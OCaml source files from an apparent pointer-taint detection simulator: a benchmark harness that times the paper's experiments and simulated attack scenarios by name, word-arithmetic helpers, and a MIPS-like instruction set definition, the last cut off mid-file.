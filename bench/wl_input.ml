(* Bench-sized workload inputs: small enough that one simulator run is
   a sensible benchmark iteration, generated once at startup. *)

let bzip = Ptaint_workloads.Wl_bzip.input ~bytes:192 ()
let gcc = Ptaint_workloads.Wl_gcc.input ~statements:20 ()
let gzip = Ptaint_workloads.Wl_bzip.input ~bytes:400 ()
let mcf = Ptaint_workloads.Wl_mcf.input ~nodes:30 ~edges:120 ()
let parser = Ptaint_workloads.Wl_parser.input ~bytes:500 ()
let vpr = Ptaint_workloads.Wl_vpr.input ~cells:30 ~nets:60 ()
