(* Benchmark harness: one Bechamel test (or group) per table/figure of
   the paper, so each experiment's cost is measured and simulator
   regressions show up.  Run with: dune exec bench/main.exe

   Flags:
     --quick     reduced iteration counts (the CI smoke job)
     --ips-only  skip the bechamel suite; only measure the
                 whole-simulator instructions-per-second numbers *)

open Bechamel
open Toolkit

let quick = Array.exists (( = ) "--quick") Sys.argv
let ips_only = Array.exists (( = ) "--ips-only") Sys.argv

(* --- helpers ------------------------------------------------------- *)

let run_program ?(policy = Ptaint_cpu.Policy.default) ?(stdin = "") ?(sessions = [])
    ?(argv = [ "bench" ]) ?(fs_init = []) ?(timing = false) program =
  let config = Ptaint_sim.Sim.config ~policy ~stdin ~sessions ~argv ~fs_init ~timing () in
  Ptaint_sim.Sim.run ~config program

let compiled source = Ptaint_runtime.Runtime.compile source

(* --- Table 1: propagation microbenchmark ---------------------------- *)

let alu_machine ?(tainted = true) () =
  let open Ptaint_isa in
  let insns =
    [| Insn.R (ADD, 8, 9, 10); Insn.R (XOR, 11, 8, 9); Insn.Shift (SLL, 12, 8, 4);
       Insn.R (AND, 13, 8, 9); Insn.R (SLT, 14, 8, 9); Insn.R (OR, 9, 12, 13);
       Insn.I (ADDIU, 10, 10, 1); Insn.J Ptaint_mem.Layout.text_base |]
  in
  let mem = Ptaint_mem.Memory.create () in
  let m =
    Ptaint_cpu.Machine.create
      ~code:{ Ptaint_cpu.Machine.base = Ptaint_mem.Layout.text_base; insns }
      ~mem ~entry:Ptaint_mem.Layout.text_base ()
  in
  if tainted then
    Ptaint_cpu.Regfile.set m.Ptaint_cpu.Machine.regs 9 (Ptaint_taint.Tword.tainted 0x1234);
  m

let tab1_bench =
  Test.make ~name:"tab1/alu-taint-propagation-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         for _ = 1 to 10_000 do
           ignore (Ptaint_cpu.Machine.step m)
         done))

(* --- Figure 1 -------------------------------------------------------- *)

let fig1_bench =
  Test.make ~name:"fig1/cert-breakdown"
    (Staged.stage (fun () -> ignore (Ptaint_cert.Cert.breakdown ())))

(* --- Figure 2 / section 5.1.1: synthetic attacks --------------------- *)

let attack_bench prefix ((s : Ptaint_attacks.Scenario.t), short) =
  let program = s.Ptaint_attacks.Scenario.build () in
  let config = Ptaint_attacks.Scenario.attack_config s program in
  Test.make ~name:(prefix ^ "/" ^ short)
    (Staged.stage (fun () -> ignore (Ptaint_sim.Sim.run ~config program)))

let synthetic_benches =
  List.map (attack_bench "fig2")
    [ (Ptaint_attacks.Catalog.exp1_stack_smash, "exp1-stack-smash");
      (Ptaint_attacks.Catalog.exp2_heap, "exp2-heap-corruption");
      (Ptaint_attacks.Catalog.exp3_format, "exp3-format-string") ]

(* --- Table 2 ---------------------------------------------------------- *)

let tab2_bench =
  attack_bench "tab2" (Ptaint_attacks.Catalog.wuftpd_format_uid, "wuftpd-attack-session")

(* --- Section 5.1.2 ---------------------------------------------------- *)

let real_world_benches =
  List.map (attack_bench "real")
    [ (Ptaint_attacks.Catalog.nullhttpd_cgi_root, "nullhttpd-heap");
      (Ptaint_attacks.Catalog.ghttpd_url_pointer, "ghttpd-url-pointer");
      (Ptaint_attacks.Catalog.traceroute_double_free, "traceroute-double-free") ]

(* --- Coverage matrix: the same attack under each policy --------------- *)

let coverage_benches =
  let s = Ptaint_attacks.Catalog.ghttpd_url_pointer in
  let program = s.Ptaint_attacks.Scenario.build () in
  let config = Ptaint_attacks.Scenario.attack_config s program in
  List.map
    (fun (name, policy) ->
      let config = { config with Ptaint_sim.Sim.policy = policy } in
      Test.make ~name:("coverage/ghttpd-" ^ name)
        (Staged.stage (fun () -> ignore (Ptaint_sim.Sim.run ~config program))))
    [ ("unprotected", Ptaint_cpu.Policy.unprotected);
      ("control-only", Ptaint_cpu.Policy.control_only);
      ("pointer-taint", Ptaint_cpu.Policy.default) ]

(* --- Table 3: the workloads (bench-sized inputs) ----------------------- *)

let bench_input (w : Ptaint_workloads.Workload.t) =
  match w.Ptaint_workloads.Workload.name with
  | "BZIP2" -> Wl_input.bzip
  | "GCC" -> Wl_input.gcc
  | "GZIP" -> Wl_input.gzip
  | "MCF" -> Wl_input.mcf
  | "PARSER" -> Wl_input.parser
  | "VPR" -> Wl_input.vpr
  | _ -> ""

let tab3_benches =
  List.map
    (fun (w : Ptaint_workloads.Workload.t) ->
      let program = Ptaint_workloads.Workload.program w in
      let stdin = bench_input w in
      Test.make ~name:("tab3/" ^ String.lowercase_ascii w.Ptaint_workloads.Workload.name)
        (Staged.stage (fun () -> ignore (run_program ~stdin program))))
    Ptaint_workloads.Workload.all

(* --- Table 4 ------------------------------------------------------------ *)

let tab4_bench =
  let program = compiled Ptaint_apps.Synthetic.fn_integer_overflow in
  Test.make ~name:"tab4/integer-overflow-fn"
    (Staged.stage (fun () -> ignore (run_program ~stdin:"\xff\xff\xff\xff" program)))

(* --- Section 5.4: overhead — taint tracking on/off ----------------------- *)

let overhead_benches =
  let program = Ptaint_workloads.Workload.program Ptaint_workloads.Workload.gcc in
  let stdin = Wl_input.gcc in
  [ Test.make ~name:"overhead/tracking-on"
      (Staged.stage (fun () ->
           ignore (run_program ~policy:Ptaint_cpu.Policy.default ~stdin program)));
    Test.make ~name:"overhead/tracking-off"
      (Staged.stage (fun () ->
           ignore (run_program ~policy:Ptaint_cpu.Policy.baseline_no_tracking ~stdin program)));
    Test.make ~name:"overhead/pipeline-timing-model"
      (Staged.stage (fun () -> ignore (run_program ~timing:true ~stdin program))) ]

(* --- Ablation ------------------------------------------------------------- *)

let ablation_bench =
  let program = Ptaint_workloads.Workload.program Ptaint_workloads.Workload.parser in
  let stdin = Wl_input.parser in
  let policy = { Ptaint_cpu.Policy.default with Ptaint_cpu.Policy.compare_untaints = false } in
  Test.make ~name:"ablation/no-compare-untaint"
    (Staged.stage (fun () -> ignore (run_program ~policy ~stdin program)))

(* --- campaign engine: batch submission of the synthetic matrix ------------- *)

let campaign_benches =
  let jobs domains_label =
    List.concat_map
      (fun (s : Ptaint_attacks.Scenario.t) ->
        let program = s.Ptaint_attacks.Scenario.build () in
        let config = Ptaint_attacks.Scenario.attack_config s program in
        List.map
          (fun (pname, policy) ->
            Ptaint_campaign.Campaign.job
              ~name:(domains_label ^ "/" ^ s.Ptaint_attacks.Scenario.name ^ "/" ^ pname)
              ~config:{ config with Ptaint_sim.Sim.policy } program)
          Ptaint_attacks.Scenario.coverage_policies)
      [ Ptaint_attacks.Catalog.exp1_stack_smash; Ptaint_attacks.Catalog.exp2_heap;
        Ptaint_attacks.Catalog.exp3_format ]
  in
  [ Test.make ~name:"campaign/synthetic-matrix-j1"
      (Staged.stage (fun () -> ignore (Ptaint_campaign.Campaign.run ~domains:1 (jobs "j1"))));
    Test.make ~name:"campaign/synthetic-matrix-jN"
      (Staged.stage (fun () -> ignore (Ptaint_campaign.Campaign.run (jobs "jN")))) ]

(* --- whole-simulator throughput: guest instructions per second -------------- *)

(* Measured directly (not through bechamel) so the number is the
   plain, interpretable ratio guest-instructions / wall-second on the
   real gzip/bzip workloads — the ROADMAP "as fast as the hardware
   allows" trajectory number. *)

let ips_workloads =
  [ (Ptaint_workloads.Workload.gzip, Wl_input.gzip);
    (Ptaint_workloads.Workload.bzip2, Wl_input.bzip) ]

let measure_ips () =
  (* Shed whatever heap the bechamel suite built up, so the throughput
     number does not depend on which benches ran before it. *)
  Gc.compact ();
  let reps = if quick then 1 else 3 in
  List.map
    (fun ((w : Ptaint_workloads.Workload.t), stdin) ->
      let program = Ptaint_workloads.Workload.program w in
      let run () =
        let t0 = Unix.gettimeofday () in
        let r = run_program ~stdin program in
        let dt = Unix.gettimeofday () -. t0 in
        (match r.Ptaint_sim.Sim.outcome with
         | Ptaint_sim.Sim.Exited 0 -> ()
         | o ->
           Format.eprintf "ips/%s: unexpected outcome %a@."
             w.Ptaint_workloads.Workload.name Ptaint_sim.Sim.pp_outcome o);
        float_of_int r.Ptaint_sim.Sim.instructions /. dt
      in
      ignore (run ());
      (* warm-up: compile cache, page tables *)
      let best = ref 0. in
      for _ = 1 to reps do
        let ips = run () in
        if ips > !best then best := ips
      done;
      let name = "ips/" ^ String.lowercase_ascii w.Ptaint_workloads.Workload.name in
      Printf.printf "%-12s %.0f guest instructions/second\n%!" name !best;
      (name, !best))
    ips_workloads

(* --- hot-path microbenchmarks: memory words, regfile, snapshots ------------- *)

let micro_mem_bench =
  Test.make ~name:"micro/mem-word-rw-4k"
    (Staged.stage (fun () ->
         let m = Ptaint_mem.Memory.create () in
         Ptaint_mem.Memory.map_range m ~lo:Ptaint_mem.Layout.data_base ~bytes:(64 * 1024);
         let base = Ptaint_mem.Layout.data_base in
         for i = 0 to 1023 do
           Ptaint_mem.Memory.store_word m
             (base + (i * 4))
             (Ptaint_taint.Tword.make ~v:i ~m:(i land 0xF))
         done;
         let acc = ref 0 in
         for i = 0 to 1023 do
           acc := !acc + Ptaint_taint.Tword.value (Ptaint_mem.Memory.load_word m (base + (i * 4)))
         done;
         ignore !acc))

let micro_regfile_bench =
  Test.make ~name:"micro/regfile-rw-10k"
    (Staged.stage (fun () ->
         let rf = Ptaint_cpu.Regfile.create () in
         for i = 1 to 10_000 do
           let r = 1 + (i land 30) in
           Ptaint_cpu.Regfile.set rf r (Ptaint_taint.Tword.make ~v:i ~m:(i land 0xF));
           ignore (Ptaint_cpu.Regfile.get rf r)
         done))

let micro_snapshot_bench =
  (* restore + dirty a handful of pages: the per-job cost the campaign
     engine pays instead of a full reload *)
  let m = Ptaint_mem.Memory.create () in
  let base = Ptaint_mem.Layout.data_base in
  Ptaint_mem.Memory.map_range m ~lo:base ~bytes:(64 * 1024);
  for i = 0 to (64 * 1024 / 4) - 1 do
    Ptaint_mem.Memory.store_word m (base + (i * 4)) (Ptaint_taint.Tword.make ~v:i ~m:(i land 0xF))
  done;
  let snap = Ptaint_mem.Memory.snapshot m in
  Test.make ~name:"micro/snapshot-restore-64k"
    (Staged.stage (fun () ->
         let r = Ptaint_mem.Memory.restore snap in
         for p = 0 to 3 do
           Ptaint_mem.Memory.store_word r
             (base + (p * Ptaint_mem.Layout.page_bytes))
             (Ptaint_taint.Tword.untainted p)
         done))

(* tracing overhead: the same interpreter loop with the event bus
   detached (the production default — must stay on the allocation-free
   path) and attached (ring pushes + milestone scans per step) *)
let micro_trace_off_bench =
  Test.make ~name:"micro/trace-off-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         for _ = 1 to 10_000 do
           ignore (Ptaint_cpu.Machine.step m)
         done))

let micro_trace_on_bench =
  Test.make ~name:"micro/trace-on-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         Ptaint_cpu.Machine.attach_obs m (Ptaint_obs.Trace.create ());
         for _ = 1 to 10_000 do
           ignore (Ptaint_cpu.Machine.step m)
         done))

(* block-threaded engine: the same ALU loop driven in bulk — with live
   taint (full handlers, one dispatch per block) and fully clean (the
   specialized no-taint handlers) *)
let micro_block_dispatch_bench =
  Test.make ~name:"micro/block-dispatch-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         ignore (Ptaint_cpu.Machine.run m ~fuel:10_000)))

let micro_clean_fastpath_bench =
  Test.make ~name:"micro/clean-fastpath-10k"
    (Staged.stage (fun () ->
         let m = alu_machine ~tainted:false () in
         ignore (Ptaint_cpu.Machine.run m ~fuel:10_000);
         (* a guard, not just a timer: this row exists to measure the
            specialized no-taint executor, so a fall-back to the
            masked handlers must fail the bench, not silently time
            the wrong path *)
         if m.Ptaint_cpu.Machine.blocks_run = 0
            || m.Ptaint_cpu.Machine.clean_blocks < m.Ptaint_cpu.Machine.blocks_run
         then
           failwith
             (Printf.sprintf
                "micro/clean-fastpath-10k: clean path not taken (%d/%d blocks clean)"
                m.Ptaint_cpu.Machine.clean_blocks m.Ptaint_cpu.Machine.blocks_run)))

(* superblock tier, steady state: the machines persist across
   invocations, so after the warm-up runs every hot block is
   translated and the timed runs never leave the compiled chains.
   [superblock-dispatch] spins one tainted self-looping block (full
   variant, self-chained); [chain-hit] walks a ring of four blocks
   linked by direct jumps (clean variant, every crossing a patched
   chain edge).  Both rows assert the tier actually carried the load. *)
let micro_superblock_dispatch_bench =
  let m = alu_machine () in
  ignore (Ptaint_cpu.Machine.run m ~fuel:20_000);
  Test.make ~name:"micro/superblock-dispatch-10k"
    (Staged.stage (fun () ->
         let before = m.Ptaint_cpu.Machine.chain_hits in
         ignore (Ptaint_cpu.Machine.run m ~fuel:10_000);
         if m.Ptaint_cpu.Machine.sb_promoted = 0
            || m.Ptaint_cpu.Machine.chain_hits - before < 1_000
         then
           failwith
             (Printf.sprintf
                "micro/superblock-dispatch-10k: tier not engaged \
                 (%d promoted, %d chain hits this run)"
                m.Ptaint_cpu.Machine.sb_promoted
                (m.Ptaint_cpu.Machine.chain_hits - before))))

let chain_machine () =
  let open Ptaint_isa in
  let tb = Ptaint_mem.Layout.text_base in
  let insns =
    [| Insn.I (ADDIU, 8, 8, 1); Insn.J (tb + 8);
       Insn.I (ADDIU, 9, 9, 1); Insn.J (tb + 16);
       Insn.I (ADDIU, 10, 10, 1); Insn.J (tb + 24);
       Insn.I (ADDIU, 11, 11, 1); Insn.J tb |]
  in
  let mem = Ptaint_mem.Memory.create () in
  Ptaint_cpu.Machine.create
    ~code:{ Ptaint_cpu.Machine.base = tb; insns }
    ~mem ~entry:tb ()

let micro_chain_hit_bench =
  let m = chain_machine () in
  ignore (Ptaint_cpu.Machine.run m ~fuel:20_000);
  Test.make ~name:"micro/chain-hit-10k"
    (Staged.stage (fun () ->
         let before = m.Ptaint_cpu.Machine.chain_hits in
         ignore (Ptaint_cpu.Machine.run m ~fuel:10_000);
         if m.Ptaint_cpu.Machine.chain_hits - before < 4_000 then
           failwith
             (Printf.sprintf
                "micro/chain-hit-10k: chains not linking (%d hits this run)"
                (m.Ptaint_cpu.Machine.chain_hits - before))))

(* fuel-sliced execution: the same bulk loop chopped into
   watchdog/fault-injection slices (Fi.default_slice) with a deadline
   check per boundary — the cost the hardened campaign runtime and the
   injection engine add over micro/block-dispatch-10k *)
let micro_sliced_run_bench =
  Test.make ~name:"micro/sliced-run-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         let deadline = Unix.gettimeofday () +. 3600.0 in
         let slice = Ptaint_fi.Fi.default_slice in
         let rec go fuel =
           if fuel > 0 then begin
             if Unix.gettimeofday () > deadline then failwith "bench watchdog";
             ignore (Ptaint_cpu.Machine.run m ~fuel:(min slice fuel));
             go (fuel - slice)
           end
         in
         go 10_000))

(* arena recycling: the streaming campaign's per-job boot cost.  The
   arena row boots and finishes a prepared image 10k times through
   this domain's recycled machine (reset-in-place from the image
   snapshot, pre-decoded blocks shared by reference); the fresh-boot
   row pays what the pipeline used to pay per job — re-load every
   initial byte and re-decode the text — 100 times.  The CI bench
   gate holds arena reuse to >= 2x over fresh boot per job. *)
let arena_image =
  let program = compiled "int main(void) { int x = 21; return x - 21; }" in
  (program, Ptaint_sim.Sim.prepare program)

let micro_arena_reuse_bench =
  let _, image = arena_image in
  Test.make ~name:"micro/arena-reuse-10k"
    (Staged.stage (fun () ->
         for _ = 1 to 10_000 do
           ignore (Ptaint_sim.Sim.run_template_arena image)
         done))

let micro_fresh_boot_bench =
  let program, _ = arena_image in
  Test.make ~name:"micro/fresh-boot-100"
    (Staged.stage (fun () ->
         for _ = 1 to 100 do
           ignore (Ptaint_sim.Sim.run program)
         done))

(* telemetry overhead: the structured log with every call site below
   the configured level (the compiled-in-but-disabled production
   default — one level comparison per call, gated <1% of
   micro/block-dispatch-10k in CI), and a full Prometheus render of a
   registry shaped like the daemon's (the per-scrape cost). *)
let micro_log_off_bench =
  let null = Ptaint_obs.Log.fn_sink (fun _ -> ()) in
  let log = Ptaint_obs.Log.create ~level:Ptaint_obs.Log.Warn null in
  Test.make ~name:"micro/log-off-10k"
    (Staged.stage (fun () ->
         let m = alu_machine () in
         (* the bulk engine sliced the way the campaign runtime drives
            it, with a below-level log call at every slice boundary —
            where production telemetry actually sits.  CI gates this
            row at <1% over micro/block-dispatch-10k: disabled
            telemetry must stay compiled into the hot loop for free. *)
         for slice = 1 to 10 do
           Ptaint_obs.Log.debug log ~src:"bench" "slice"
             [ Ptaint_obs.Log.int "slice" slice ];
           ignore (Ptaint_cpu.Machine.run m ~fuel:1_000)
         done))

let micro_metrics_scrape_bench =
  let m = Ptaint_obs.Metrics.create () in
  List.iter
    (fun outcome ->
      Ptaint_obs.Metrics.inc ~by:100
        (Ptaint_obs.Metrics.counter m ~labels:[ ("outcome", outcome) ] "ptaintd_jobs_total"))
    [ "exited"; "alert"; "fault"; "timeout" ];
  Ptaint_obs.Metrics.set (Ptaint_obs.Metrics.gauge m "ptaintd_queue_depth") 12.0;
  let lat = Ptaint_obs.Metrics.histogram m "ptaintd_job_duration_us" in
  let lag = Ptaint_obs.Metrics.histogram m "ptaintd_loop_lag_us" in
  for i = 1 to 1000 do
    Ptaint_obs.Metrics.observe lat (float_of_int (i * 37));
    Ptaint_obs.Metrics.observe lag (float_of_int (i land 255))
  done;
  Test.make ~name:"micro/metrics-scrape"
    (Staged.stage (fun () -> ignore (Ptaint_obs.Metrics.prometheus m)))

let micro_benches =
  [ micro_mem_bench; micro_regfile_bench; micro_snapshot_bench; micro_trace_off_bench;
    micro_trace_on_bench; micro_block_dispatch_bench; micro_clean_fastpath_bench;
    micro_superblock_dispatch_bench; micro_chain_hit_bench;
    micro_sliced_run_bench; micro_arena_reuse_bench; micro_fresh_boot_bench;
    micro_log_off_bench; micro_metrics_scrape_bench ]

(* --- driver ----------------------------------------------------------------- *)

let tests =
  Test.make_grouped ~name:"ptaint"
    (micro_benches @ [ fig1_bench; tab1_bench ] @ synthetic_benches @ [ tab2_bench ]
     @ real_world_benches @ coverage_benches @ tab3_benches @ [ tab4_bench ]
     @ overhead_benches @ [ ablation_bench ] @ campaign_benches)

let () =
  let bechamel_rows =
    if ips_only then []
    else begin
      let quota = if quick then Time.second 0.05 else Time.second 0.5 in
      let limit = if quick then 20 else 200 in
      let cfg = Benchmark.cfg ~limit ~quota ~stabilize:true () in
      let raw = Benchmark.all cfg Instance.[ monotonic_clock ] tests in
      let ols =
        Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |]
      in
      let clock = Analyze.all ols Instance.monotonic_clock raw in
      let rows = ref [] in
      Hashtbl.iter
        (fun name result ->
          match Analyze.OLS.estimates result with
          | Some [ est ] -> rows := (name, est) :: !rows
          | _ -> ())
        clock;
      let rows = List.sort compare !rows in
      print_endline "benchmark results (wall time per run, monotonic clock):\n";
      print_string
        (Ptaint_report.Report.table ~headers:[ "benchmark"; "time per run" ]
           (List.map
              (fun (name, ns) ->
                let pretty =
                  if ns > 1e9 then Printf.sprintf "%.2f s" (ns /. 1e9)
                  else if ns > 1e6 then Printf.sprintf "%.2f ms" (ns /. 1e6)
                  else if ns > 1e3 then Printf.sprintf "%.2f us" (ns /. 1e3)
                  else Printf.sprintf "%.0f ns" ns
                in
                [ name; pretty ])
              rows));
      rows
    end
  in
  print_endline "\nwhole-simulator throughput:";
  let ips_rows = measure_ips () in
  (* machine-readable mirror so the perf trajectory can be diffed
     across PRs: bechamel rows are ns-per-run, ips/* rows are guest
     instructions per wall second. *)
  let json_rows = bechamel_rows @ ips_rows in
  let json_escape s =
    String.concat ""
      (List.map
         (fun c ->
           match c with
           | '"' -> "\\\""
           | '\\' -> "\\\\"
           | c when Char.code c < 0x20 -> Printf.sprintf "\\u%04x" (Char.code c)
           | c -> String.make 1 c)
         (List.init (String.length s) (String.get s)))
  in
  let oc = open_out "BENCH_results.json" in
  output_string oc "{\n";
  List.iteri
    (fun i (name, ns) ->
      Printf.fprintf oc "  \"%s\": %.3f%s\n" (json_escape name) ns
        (if i = List.length json_rows - 1 then "" else ","))
    json_rows;
  output_string oc "}\n";
  close_out oc;
  Printf.printf "\nwrote %d results to BENCH_results.json\n" (List.length json_rows)
