let mask32 = 0xFFFFFFFF
let of_int v = v land mask32
let to_signed v = if v land 0x80000000 <> 0 then v - 0x100000000 else v
let of_signed v = v land mask32
let add a b = (a + b) land mask32
let sub a b = (a - b) land mask32
let mul_lo a b = Int64.to_int (Int64.logand (Int64.mul (Int64.of_int a) (Int64.of_int b)) 0xFFFFFFFFL)

let mul_hi_signed a b =
  let p = Int64.mul (Int64.of_int (to_signed a)) (Int64.of_int (to_signed b)) in
  Int64.to_int (Int64.logand (Int64.shift_right p 32) 0xFFFFFFFFL)

let mul_hi_unsigned a b =
  let p = Int64.mul (Int64.of_int a) (Int64.of_int b) in
  Int64.to_int (Int64.logand (Int64.shift_right_logical p 32) 0xFFFFFFFFL)

let div_signed a b =
  if b = 0 then (0, a)
  else
    let sa = to_signed a and sb = to_signed b in
    (of_signed (sa / sb), of_signed (sa mod sb))

let div_unsigned a b = if b = 0 then (0, a) else (a / b, a mod b)
let sll v n = (v lsl (n land 31)) land mask32
let srl v n = v lsr (n land 31)
let sra v n = of_signed (to_signed v asr (n land 31))

let sign_extend ~bits v =
  let v = v land ((1 lsl bits) - 1) in
  if v land (1 lsl (bits - 1)) <> 0 then (v - (1 lsl bits)) land mask32 else v

let zero_extend ~bits v = v land ((1 lsl bits) - 1)
let byte v i = (v lsr (8 * i)) land 0xff
let set_byte v i b = v land lnot (0xff lsl (8 * i)) lor ((b land 0xff) lsl (8 * i))
let lt_signed a b = to_signed a < to_signed b
let lt_unsigned a b = a < b
