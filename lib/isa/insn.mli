(** SIMIPS instruction set.

    A 32-bit MIPS-I-like RISC, modelled on the SimpleScalar PISA used
    by the paper: load/store architecture, no branch delay slots, and
    pointer dereference possible only through loads, stores and the
    register jumps [JR]/[JALR] — the three places the taintedness
    detectors watch (paper section 4.3). *)

type rop =
  | ADD | ADDU | SUB | SUBU | AND | OR | XOR | NOR | SLT | SLTU
  | SLLV | SRLV | SRAV

type iop = ADDI | ADDIU | ANDI | ORI | XORI | SLTI | SLTIU
type shop = SLL | SRL | SRA
type load_op = LB | LBU | LH | LHU | LW
type store_op = SB | SH | SW
type branch2 = BEQ | BNE
type branch1 = BLEZ | BGTZ | BLTZ | BGEZ
type muldiv = MULT | MULTU | DIV | DIVU

type t =
  | R of rop * Reg.t * Reg.t * Reg.t      (** [R (op, rd, rs, rt)] *)
  | I of iop * Reg.t * Reg.t * int        (** [I (op, rt, rs, imm16)] *)
  | Shift of shop * Reg.t * Reg.t * int   (** [Shift (op, rd, rt, shamt)] *)
  | Lui of Reg.t * int
  | Load of load_op * Reg.t * int * Reg.t (** [Load (op, rt, offset, base)] *)
  | Store of store_op * Reg.t * int * Reg.t
  | Branch2 of branch2 * Reg.t * Reg.t * int (** word offset from next pc *)
  | Branch1 of branch1 * Reg.t * int
  | J of int                              (** absolute byte address *)
  | Jal of int
  | Jr of Reg.t
  | Jalr of Reg.t * Reg.t                 (** [Jalr (rd, rs)] *)
  | Muldiv of muldiv * Reg.t * Reg.t
  | Mfhi of Reg.t
  | Mflo of Reg.t
  | Mthi of Reg.t
  | Mtlo of Reg.t
  | Syscall
  | Break of int
  | Nop

val equal : t -> t -> bool

val pp : Format.formatter -> t -> unit
(** Disassembly in the paper's style, e.g. [sw $21,0($3)]. *)

val to_string : t -> string

val uses_compare : t -> bool
(** True for the compare-class instructions (SLT family and
    conditional branches) to which the compare-untaint rule of
    Table 1 applies. *)

val reads : t -> Reg.t list
(** Source registers, for pipeline hazard modelling. *)

val writes : t -> Reg.t option
(** Destination GPR, if any. *)

val is_memory : t -> bool
val is_control : t -> bool
