type rop =
  | ADD | ADDU | SUB | SUBU | AND | OR | XOR | NOR | SLT | SLTU
  | SLLV | SRLV | SRAV

type iop = ADDI | ADDIU | ANDI | ORI | XORI | SLTI | SLTIU
type shop = SLL | SRL | SRA
type load_op = LB | LBU | LH | LHU | LW
type store_op = SB | SH | SW
type branch2 = BEQ | BNE
type branch1 = BLEZ | BGTZ | BLTZ | BGEZ
type muldiv = MULT | MULTU | DIV | DIVU

type t =
  | R of rop * Reg.t * Reg.t * Reg.t
  | I of iop * Reg.t * Reg.t * int
  | Shift of shop * Reg.t * Reg.t * int
  | Lui of Reg.t * int
  | Load of load_op * Reg.t * int * Reg.t
  | Store of store_op * Reg.t * int * Reg.t
  | Branch2 of branch2 * Reg.t * Reg.t * int
  | Branch1 of branch1 * Reg.t * int
  | J of int
  | Jal of int
  | Jr of Reg.t
  | Jalr of Reg.t * Reg.t
  | Muldiv of muldiv * Reg.t * Reg.t
  | Mfhi of Reg.t
  | Mflo of Reg.t
  | Mthi of Reg.t
  | Mtlo of Reg.t
  | Syscall
  | Break of int
  | Nop

let equal (a : t) (b : t) = a = b

let rop_name = function
  | ADD -> "add" | ADDU -> "addu" | SUB -> "sub" | SUBU -> "subu"
  | AND -> "and" | OR -> "or" | XOR -> "xor" | NOR -> "nor"
  | SLT -> "slt" | SLTU -> "sltu"
  | SLLV -> "sllv" | SRLV -> "srlv" | SRAV -> "srav"

let iop_name = function
  | ADDI -> "addi" | ADDIU -> "addiu" | ANDI -> "andi" | ORI -> "ori"
  | XORI -> "xori" | SLTI -> "slti" | SLTIU -> "sltiu"

let shop_name = function SLL -> "sll" | SRL -> "srl" | SRA -> "sra"

let load_name = function
  | LB -> "lb" | LBU -> "lbu" | LH -> "lh" | LHU -> "lhu" | LW -> "lw"

let store_name = function SB -> "sb" | SH -> "sh" | SW -> "sw"
let branch2_name = function BEQ -> "beq" | BNE -> "bne"

let branch1_name = function
  | BLEZ -> "blez" | BGTZ -> "bgtz" | BLTZ -> "bltz" | BGEZ -> "bgez"

let muldiv_name = function
  | MULT -> "mult" | MULTU -> "multu" | DIV -> "div" | DIVU -> "divu"

let pp ppf = function
  | R (op, rd, rs, rt) ->
    Format.fprintf ppf "%s %a,%a,%a" (rop_name op) Reg.pp rd Reg.pp rs Reg.pp rt
  | I (op, rt, rs, imm) ->
    Format.fprintf ppf "%s %a,%a,%d" (iop_name op) Reg.pp rt Reg.pp rs imm
  | Shift (op, rd, rt, sh) ->
    Format.fprintf ppf "%s %a,%a,%d" (shop_name op) Reg.pp rd Reg.pp rt sh
  | Lui (rt, imm) -> Format.fprintf ppf "lui %a,0x%x" Reg.pp rt imm
  | Load (op, rt, off, base) ->
    Format.fprintf ppf "%s %a,%d(%a)" (load_name op) Reg.pp rt off Reg.pp base
  | Store (op, rt, off, base) ->
    Format.fprintf ppf "%s %a,%d(%a)" (store_name op) Reg.pp rt off Reg.pp base
  | Branch2 (op, rs, rt, off) ->
    Format.fprintf ppf "%s %a,%a,%d" (branch2_name op) Reg.pp rs Reg.pp rt off
  | Branch1 (op, rs, off) ->
    Format.fprintf ppf "%s %a,%d" (branch1_name op) Reg.pp rs off
  | J target -> Format.fprintf ppf "j 0x%x" target
  | Jal target -> Format.fprintf ppf "jal 0x%x" target
  | Jr rs -> Format.fprintf ppf "jr %a" Reg.pp rs
  | Jalr (rd, rs) -> Format.fprintf ppf "jalr %a,%a" Reg.pp rd Reg.pp rs
  | Muldiv (op, rs, rt) ->
    Format.fprintf ppf "%s %a,%a" (muldiv_name op) Reg.pp rs Reg.pp rt
  | Mfhi rd -> Format.fprintf ppf "mfhi %a" Reg.pp rd
  | Mflo rd -> Format.fprintf ppf "mflo %a" Reg.pp rd
  | Mthi rs -> Format.fprintf ppf "mthi %a" Reg.pp rs
  | Mtlo rs -> Format.fprintf ppf "mtlo %a" Reg.pp rs
  | Syscall -> Format.pp_print_string ppf "syscall"
  | Break code -> Format.fprintf ppf "break %d" code
  | Nop -> Format.pp_print_string ppf "nop"

let to_string i = Format.asprintf "%a" pp i

let uses_compare = function
  | R ((SLT | SLTU), _, _, _) | I ((SLTI | SLTIU), _, _, _)
  | Branch2 _ | Branch1 _ -> true
  | R _ | I _ | Shift _ | Lui _ | Load _ | Store _ | J _ | Jal _ | Jr _
  | Jalr _ | Muldiv _ | Mfhi _ | Mflo _ | Mthi _ | Mtlo _ | Syscall
  | Break _ | Nop -> false

let reads = function
  | R (_, _, rs, rt) -> [ rs; rt ]
  | I (_, _, rs, _) -> [ rs ]
  | Shift (_, _, rt, _) -> [ rt ]
  | Lui _ -> []
  | Load (_, _, _, base) -> [ base ]
  | Store (_, rt, _, base) -> [ rt; base ]
  | Branch2 (_, rs, rt, _) -> [ rs; rt ]
  | Branch1 (_, rs, _) -> [ rs ]
  | J _ | Jal _ -> []
  | Jr rs | Jalr (_, rs) -> [ rs ]
  | Muldiv (_, rs, rt) -> [ rs; rt ]
  | Mfhi _ | Mflo _ -> []
  | Mthi rs | Mtlo rs -> [ rs ]
  | Syscall -> [ Reg.v0; Reg.a0; Reg.a1; Reg.a2; Reg.a3 ]
  | Break _ | Nop -> []

let writes = function
  | R (_, rd, _, _) | Shift (_, rd, _, _) | Jalr (rd, _) | Mfhi rd | Mflo rd -> Some rd
  | I (_, rt, _, _) | Lui (rt, _) | Load (_, rt, _, _) -> Some rt
  | Jal _ -> Some Reg.ra
  | Syscall -> Some Reg.v0
  | Store _ | Branch2 _ | Branch1 _ | J _ | Jr _ | Muldiv _ | Mthi _
  | Mtlo _ | Break _ | Nop -> None

let is_memory = function Load _ | Store _ -> true | _ -> false

let is_control = function
